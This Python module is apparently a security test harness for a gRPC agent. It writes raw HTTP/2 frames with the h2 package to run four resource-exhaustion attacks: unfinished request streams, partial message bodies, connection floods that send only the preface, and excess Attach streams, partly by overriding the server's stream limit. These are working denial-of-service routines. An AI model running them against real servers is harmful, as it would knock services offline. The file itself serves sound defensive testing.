"""Raw HTTP/2 against the agent's gRPC listeners (the ``h2`` package), and attacks 3-6.

An attacker does not use a gRPC library: it writes HTTP/2 frames of its choosing. Here it opens
streams without finishing them, sends parts of messages, stops after the connection preface,
and ignores the agent's SETTINGS_MAX_CONCURRENT_STREAMS (an honest client would not open more
streams than the server allows; :class:`UnrulyConnection` does). It does respect HTTP/2 flow
control, as the agent would otherwise close the connection at once.

Each attack function sets its state up, calls ``hold()`` while the state is in place (the
benchmark measures the victim and the agent then; a test may just sleep), tears it down and
returns what the attacker saw. Every socket operation has a timeout: nothing here can hang.
"""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE_PATH = "/vaccel.agent.v1.Agent/"
Hold = Callable[[], None]


def connect_socket(address: str, timeout: float = 5.0) -> socket.socket:
    """A connected stream socket to ``tcp://HOST:PORT`` or ``unix:///path`` (a ``grpc+``
    prefix is allowed: HTTP/2 is what this speaks anyway)."""
    address = address.removeprefix("grpc+")
    if address.startswith("unix://"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        target: Any = address[len("unix://") :]
    elif address.startswith("tcp://"):
        host, _, port = address[len("tcp://") :].rpartition(":")
        host = host.strip("[]")
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        target = (host, int(port))
    else:
        raise ValueError(f"not a tcp or unix address: {address}")
    sock.settimeout(timeout)
    try:
        sock.connect(target)
    except BaseException:
        sock.close()
        raise
    return sock


class UnrulyConnection(h2.connection.H2Connection):
    """An h2 client connection that opens streams beyond the server's
    SETTINGS_MAX_CONCURRENT_STREAMS (as an attacker would); it still obeys flow control."""

    @property
    def open_outbound_streams(self) -> int:  # type: ignore[override]
        super().open_outbound_streams  # noqa: B018 (the property forgets closed streams)
        return 0


@dataclass
class StreamState:
    headers: dict[str, str] = field(default_factory=dict)
    trailers: dict[str, str] = field(default_factory=dict)
    data: int = 0
    reset: int | None = None  # RST_STREAM error code
    ended: bool = False
    first: bytes = b""  # the first 64 KiB of the response body

    @property
    def grpc_status(self) -> str | None:
        return self.trailers.get("grpc-status") or self.headers.get("grpc-status")

    @property
    def grpc_message(self) -> str:
        return self.trailers.get("grpc-message") or self.headers.get("grpc-message", "")


class H2Client:
    """One raw HTTP/2 connection to a gRPC listener."""

    def __init__(self, address: str, timeout: float = 5.0, *, unruly: bool = True) -> None:
        self.address = address
        self.sock = connect_socket(address, timeout)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        cls = UnrulyConnection if unruly else h2.connection.H2Connection
        self.conn = cls(config=config)
        self.conn.initiate_connection()
        self.streams: dict[int, StreamState] = {}
        self.goaway: tuple[int, bytes] | None = None
        self.closed = False  # the agent closed the connection (EOF or reset)
        self.settings_seen = False  # the agent's SETTINGS arrived (it serves this connection)
        self.metadata: list[tuple[str, str]] = []  # sent with every stream (see attach())
        self.error = ""
        self.flush()

    # I/O -------------------------------------------------------------------------------------
    def flush(self) -> None:
        data = self.conn.data_to_send()
        if not data or self.closed:
            return
        try:
            self.sock.sendall(data)
        except OSError as exc:
            self._gone(f"send: {exc}")

    def _gone(self, why: str) -> None:
        self.closed = True
        self.error = self.error or why

    def pump(self, timeout: float = 0.0) -> bool:
        """Read and handle what has arrived (waiting up to ``timeout`` for the first bytes);
        answers pings and settings. False once the connection is closed."""
        if self.closed:
            return False
        wait = timeout
        while True:
            try:
                ready, _, _ = select.select([self.sock], [], [], wait)
            except (OSError, ValueError):
                self._gone("select failed")
                return False
            if not ready:
                break
            try:
                data = self.sock.recv(1 << 20)
            except (BlockingIOError, TimeoutError):
                break
            except OSError as exc:
                self._gone(f"recv: {exc}")
                return False
            if not data:
                self._gone("closed by the agent")
                return False
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self._gone(f"protocol error: {exc}")
                return False
            for event in events:
                self._event(event)
            self.flush()
            wait = 0.0
        return not self.closed

    def _event(self, event: Any) -> None:
        sid = getattr(event, "stream_id", None)
        st = self.streams.get(sid) if sid is not None else None
        if isinstance(event, h2.events.ResponseReceived) and st is not None:
            st.headers.update({str(k): str(v) for k, v in event.headers})
        elif isinstance(event, h2.events.TrailersReceived) and st is not None:
            st.trailers.update({str(k): str(v) for k, v in event.headers})
        elif isinstance(event, h2.events.DataReceived):
            if st is not None:
                st.data += len(event.data)
                if len(st.first) < 65536:
                    st.first += bytes(event.data[: 65536 - len(st.first)])
            with contextlib.suppress(Exception):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamReset) and st is not None:
            st.reset = int(event.error_code)
        elif isinstance(event, h2.events.StreamEnded) and st is not None:
            st.ended = True
        elif isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_seen = True
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = (int(event.error_code), bytes(event.additional_data or b""))

    # Streams ---------------------------------------------------------------------------------
    def attach(self, timeout: float = 5.0) -> str:
        """Attach as the protocol says (an Attach stream on this connection, kept open) and
        send the capability of its AttachEvent with every later stream; returns it ("" when
        the agent issues none or refused)."""
        sid = self.open_stream("Attach")
        self.send(sid, grpc_frame(b""), end_stream=True)
        st = self.streams[sid]
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and self.pump(0.05):
            if len(st.first) >= 5 or st.reset is not None or st.grpc_status is not None:
                break
        if len(st.first) < 5:
            return ""
        from vaccel_core.proto import pb

        size = int.from_bytes(st.first[1:5], "big")
        event = pb().AttachEvent.FromString(st.first[5 : 5 + size])
        capability = str(getattr(event, "capability", "") or "")
        if capability:
            self.metadata = [("vaccel-capability", capability)]
        return capability

    def open_stream(self, method: str, *, end_stream: bool = False) -> int:
        """HEADERS of a gRPC call to ``method`` (without END_STREAM unless asked)."""
        sid = self.conn.get_next_available_stream_id()
        authority = "localhost" if self.address.startswith("unix://") else self.address[6:]
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", SERVICE_PATH + method),
            (":authority", authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *self.metadata,
        ]
        self.conn.send_headers(sid, headers, end_stream=end_stream)
        self.streams[sid] = StreamState()
        return sid

    def send(self, sid: int, data: bytes | memoryview, end_stream: bool = False) -> int:
        """Send as much of ``data`` as flow control allows now; returns the bytes sent."""
        if self.closed:
            return 0
        st = self.streams.get(sid)
        if st is not None and (st.reset is not None or st.ended):
            return 0
        view = memoryview(data)
        sent = 0
        try:
            while sent < len(view):
                window = self.conn.local_flow_control_window(sid)
                n = min(window, self.conn.max_outbound_frame_size, len(view) - sent)
                if n <= 0:
                    break
                last = end_stream and sent + n == len(view)
                self.conn.send_data(sid, bytes(view[sent : sent + n]), end_stream=last)
                sent += n
            if end_stream and len(view) == 0:
                self.conn.end_stream(sid)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
            pass
        self.flush()
        return sent

    def close(self) -> None:
        with contextlib.suppress(Exception):
            if not self.closed:
                self.conn.close_connection()
                self.flush()
        with contextlib.suppress(OSError):
            self.sock.close()
        self.closed = True

    def summary(self) -> dict[str, int]:
        """How the agent answered the streams: reset, finished with a gRPC status, open."""
        out = {"streams": len(self.streams), "reset": 0, "status": 0, "open": 0}
        for st in self.streams.values():
            if st.reset is not None:
                out["reset"] += 1
            elif st.grpc_status is not None:
                out["status"] += 1
            else:
                out["open"] += 1
        return out

    def first_refusal(self) -> str:
        """The first gRPC status or reset the agent sent, in words."""
        for st in self.streams.values():
            if st.grpc_status not in (None, "0"):
                return f"grpc-status {st.grpc_status} {unquote(st.grpc_message)}"
        for st in self.streams.values():
            if st.reset is not None:
                return f"RST_STREAM {reset_name(st.reset)}"
        if self.goaway is not None:
            return f"GOAWAY {reset_name(self.goaway[0])} {self.goaway[1][:80]!r}"
        return self.error


def reset_name(code: int) -> str:
    with contextlib.suppress(ValueError):
        return h2.errors.ErrorCodes(code).name
    return str(code)


def unquote(text: str) -> str:
    from urllib.parse import unquote as percent

    return " ".join(percent(text).split())[:120]


def grpc_frame(payload: bytes) -> bytes:
    """One gRPC length-prefixed message (uncompressed)."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def status_name(code: str | None) -> str:
    if code is None:
        return "-"
    with contextlib.suppress(Exception):
        import grpc

        for status in grpc.StatusCode:
            if str(status.value[0]) == code:
                return str(status.name)
    return code


def _wait(clients: list[H2Client], seconds: float) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for c in clients:
            c.pump(0.0)
        time.sleep(0.02)


# Attacks -----------------------------------------------------------------------------------------
@dataclass
class H2Result:
    """What an attack saw; ``succeeded``: the agent let the attacker have what it wanted."""

    succeeded: bool
    got: str
    numbers: dict[str, Any] = field(default_factory=dict)


def attack_half_headers(
    address: str, hold: Hold, streams: int = 64, max_streams: int = 16, *, attach: bool = False
) -> H2Result:
    """Attack 3: ``streams`` request HEADERS without END_STREAM and no DATA on one connection
    (with ``attach``, as an attached client: an Attach stream first, its capability on every
    stream, so that the agent cannot refuse them for want of one).

    Succeeded: more than ``max_streams`` (the agent's --max-streams) stayed open (each such
    stream held a server thread in the agent of the issue)."""
    client = H2Client(address)
    try:
        if attach:
            client.attach()
        for _ in range(streams):
            client.open_stream("GetStatus")
        client.flush()
        _wait([client], 0.5)
        hold()
        client.pump(0.0)
        s = client.summary()
        if attach:  # the Attach stream is not one of the attack's
            s["streams"] -= 1
            s["open"] -= 1
        refusal = client.first_refusal()
        got = f"{s['open']}/{streams} streams left open, {s['reset']} reset, {s['status']} status"
        if attach:
            got += f" ({'with' if client.metadata else 'WITHOUT'} a capability)"
        if refusal:
            got += f"; {refusal}"
        if client.closed:
            got += f"; connection closed ({client.error})"
        s["open_after_hold"] = s["open"] if not client.closed else 0
        return H2Result(s["open_after_hold"] > max_streams, got, s)
    finally:
        client.close()


def attack_half_bodies(
    address: str,
    hold: Hold,
    *,
    connections: int = 4,
    streams: int = 16,
    announce: int,
    per_stream: int = 32 << 20,
    budget_seconds: float = 30.0,
    stall_seconds: float = 3.0,
    attach: bool = False,
) -> H2Result:
    """Attack 4: on each of ``connections`` connections, ``streams`` calls each announce a
    gRPC message of ``announce`` bytes and send ``per_stream`` bytes of it, never the rest.
    Sends as fast as flow control lets it (within ``budget_seconds``; it stops when no stream
    progressed for ``stall_seconds``). With ``attach``, each connection attaches first and
    sends its capability on every stream.

    ``numbers['accepted']``: bytes the agent let in (flow control granted them, so it buffers
    them). Succeeded: every byte was accepted (the agent never refused a stream)."""
    block = bytes(1 << 20)
    clients: list[H2Client] = []
    sent: dict[tuple[int, int], int] = {}
    try:
        for _ in range(connections):
            c = H2Client(address)
            clients.append(c)
            if attach:
                c.attach()
            for _ in range(streams):
                sid = c.open_stream("Run")
                c.send(sid, b"\x00" + announce.to_bytes(4, "big"))
                sent[(len(clients) - 1, sid)] = 0
            c.flush()
        start = time.monotonic()
        last_progress = start
        target = per_stream
        while time.monotonic() - start < budget_seconds:
            progressed = False
            for ci, c in enumerate(clients):
                c.pump(0.0)
                for (cj, sid), done in list(sent.items()):
                    if cj != ci or done >= target:
                        continue
                    n = c.send(sid, memoryview(block)[: min(len(block), target - done)])
                    if n:
                        sent[(cj, sid)] = done + n
                        progressed = True
            if all(v >= target for v in sent.values()):
                break
            now = time.monotonic()
            if progressed:
                last_progress = now
            elif now - last_progress > stall_seconds:
                break
            if not progressed:
                live = [c.sock for c in clients if not c.closed]
                if not live:
                    break
                with contextlib.suppress(OSError, ValueError):
                    select.select(live, [], [], 0.05)
        _wait(clients, 0.2)
        hold()
        for c in clients:
            c.pump(0.0)
        accepted = sum(sent.values())
        total = connections * streams
        summary = [c.summary() for c in clients]
        reset = sum(s["reset"] for s in summary)
        status = sum(s["status"] for s in summary)
        closed = sum(1 for c in clients if c.closed)
        refusal = next((r for r in (c.first_refusal() for c in clients) if r), "")
        got = (
            f"agent accepted {accepted / 2**20:.0f} MiB of {total * per_stream / 2**20:.0f} MiB "
            f"({total} streams x {per_stream / 2**20:.0f} MiB of a {announce / 2**20:.0f} MiB "
            f"message); {reset} reset, {status} status, {closed} conn closed"
        )
        if attach:
            with_cap = sum(1 for c in clients if c.metadata)
            got += f"; {with_cap}/{connections} connections attached with a capability"
        if refusal:
            got += f"; {refusal}"
        numbers = {"accepted": accepted, "reset": reset, "status": status, "closed": closed}
        return H2Result(accepted >= total * per_stream, got, numbers)
    finally:
        for c in clients:
            c.close()


def _still_open(socks: list[socket.socket]) -> int:
    """How many of ``socks`` the agent has not closed (their data drained)."""
    still_open = 0
    for sock in socks:
        try:
            sock.setblocking(False)
            while True:  # drain what the agent sent (its SETTINGS), then look for EOF
                data = sock.recv(65536)
                if not data:
                    break
        except BlockingIOError:
            still_open += 1
        except OSError:
            pass
    return still_open


def _accepts(address: str) -> bool:
    """Whether a new connection gets the agent's HTTP/2 SETTINGS within 2 s."""
    try:
        client = H2Client(address, 2.0, unruly=False)
    except OSError:
        return False
    try:
        deadline = time.monotonic() + 2.0
        while time.monotonic() < deadline and not client.closed:
            client.pump(0.1)
            if client.settings_seen:
                return True
        return False
    finally:
        client.close()


def attack_idle_prefaces(
    address: str,
    hold: Hold,
    count: int = 1000,
    max_connections: int = 128,
    *,
    recheck_after: float | None = None,
) -> H2Result:
    """Attack 5: ``count`` connections that send only the HTTP/2 connection preface and then
    nothing. Succeeded: more than ``max_connections`` of them were still open after ``hold``.

    With ``recheck_after`` (seconds from the first connection), counts again then and tries a
    new connection (``numbers['open_later']``, ``numbers['accepts_later']``): how long a
    lock-out lasts when the connections fill the listener."""
    socks: list[socket.socket] = []
    refused = 0
    started = time.monotonic()
    try:
        for _ in range(count):
            try:
                sock = connect_socket(address, 2.0)
                sock.sendall(PREFACE)
                socks.append(sock)
            except OSError:
                refused += 1
        hold()
        still_open = _still_open(socks)
        got = (
            f"{len(socks)}/{count} connected ({refused} refused at connect), "
            f"{still_open} still open after the hold"
        )
        numbers: dict[str, Any] = {"connected": len(socks), "open": still_open}
        if recheck_after is not None:
            time.sleep(max(started + recheck_after - time.monotonic(), 0.0))
            numbers["open_later"] = _still_open(socks)
            numbers["accepts_later"] = _accepts(address)
            got += (
                f"; {recheck_after:g} s after connecting: {numbers['open_later']} open, a new "
                f"connection {'is served' if numbers['accepts_later'] else 'is NOT served'}"
            )
        return H2Result(still_open > max_connections, got, numbers)
    finally:
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.close()


def attack_attach_streams(
    address: str,
    hold: Hold,
    streams: int = 64,
    *,
    max_streams: int = 16,
    attach_request: bytes = b"",
) -> H2Result:
    """Attack 6: one connection opens ``streams`` Attach streams (each a client slot in the
    agent of the issue). Succeeded: more than ``max_streams`` (the agent's --max-streams) of
    them were attached on the one connection."""
    client = H2Client(address)
    try:
        for _ in range(streams):
            sid = client.open_stream("Attach")
            client.send(sid, grpc_frame(attach_request), end_stream=True)
        client.flush()
        _wait([client], 1.5)
        hold()
        client.pump(0.0)
        attached = sum(1 for st in client.streams.values() if st.data > 0 and st.reset is None)
        s = client.summary()
        refusal = client.first_refusal()
        got = f"{attached}/{streams} Attach streams got an AttachEvent; {s['reset']} reset, "
        got += f"{s['status']} ended with a status"
        if refusal:
            got += f"; {refusal}"
        s["attached"] = attached
        return H2Result(attached > max_streams, got, s)
    finally:
        client.close()
